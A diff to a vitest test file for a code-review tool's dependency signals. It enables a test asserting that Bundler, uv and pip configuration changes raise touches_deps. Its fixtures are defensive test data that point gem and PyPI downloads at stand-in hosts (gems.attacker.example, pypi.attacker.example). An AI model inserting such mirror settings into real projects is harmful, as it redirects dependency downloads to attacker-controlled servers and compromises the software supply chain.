@@ -3,8 +3,7 @@
  * another server while its lockfile still names the public index (Cargo's
  * source replacement, Bundler's mirrors, uv's index). The lockfile check
  * cannot see that; what can is the security lane, which runs when a change
- * touches dependencies. Cargo's and yarn's configuration raise touches_deps;
- * Bundler's and uv's do not: the break below, skipped for the signals' owner.
+ * touches dependencies. Cargo's, yarn's, Bundler's, uv's and pip's configuration raise touches_deps.
  */
 import { describe, expect, it } from "vitest";
 import { signalsFromChanges } from "../../src/review/signals/compute.js";
@@ -41,13 +40,9 @@ describe("configuration that redirects package downloads", () => {
     ).toBeUndefined();
   });
 
-  // BREAK (signals/rulesDeps.ts — owner "planspeed"/"surface"): `.bundle/config` (Bundler reads it from the
-  // project: `BUNDLE_MIRROR__HTTPS://RUBYGEMS__ORG/: "https://gems.attacker.example"` sends every gem download
-  // there while Gemfile.lock still says rubygems.org), `uv.toml` (`index-url`) and `pip.conf` raise no flag, so a
-  // pull request that changes only one of them may get no security lane, and the lockfile check passes. They
-  // should raise touches_deps beside `.cargo/config.toml` and `.yarnrc.yml`; a deterministic check like the
-  // `.npmrc` one (security/securityChecks.ts) would make the new origin a 🔴 whatever the model says.
-  it.skip("Bundler's mirror, uv's index and pip's configuration raise touches_deps", () => {
+  // `.bundle/config` (Bundler reads it from the project: a mirror there gets every gem download while
+  // Gemfile.lock still says rubygems.org), `uv.toml` and `pip.conf` (an index URL) redirect downloads too.
+  it("Bundler's mirror, uv's index and pip's configuration raise touches_deps", () => {
     expect(signalsFromChanges([change(".bundle/config", ['BUNDLE_MIRROR__HTTPS://RUBYGEMS__ORG/: "https://gems.attacker.example"'])]).touches_deps).toBe(true);
     expect(signalsFromChanges([change("uv.toml", ['index-url = "https://pypi.attacker.example/simple"'])]).touches_deps).toBe(true);
     expect(signalsFromChanges([change("pip.conf", ["[global]", "index-url = https://pypi.attacker.example/simple"])]).touches_deps).toBe(true);
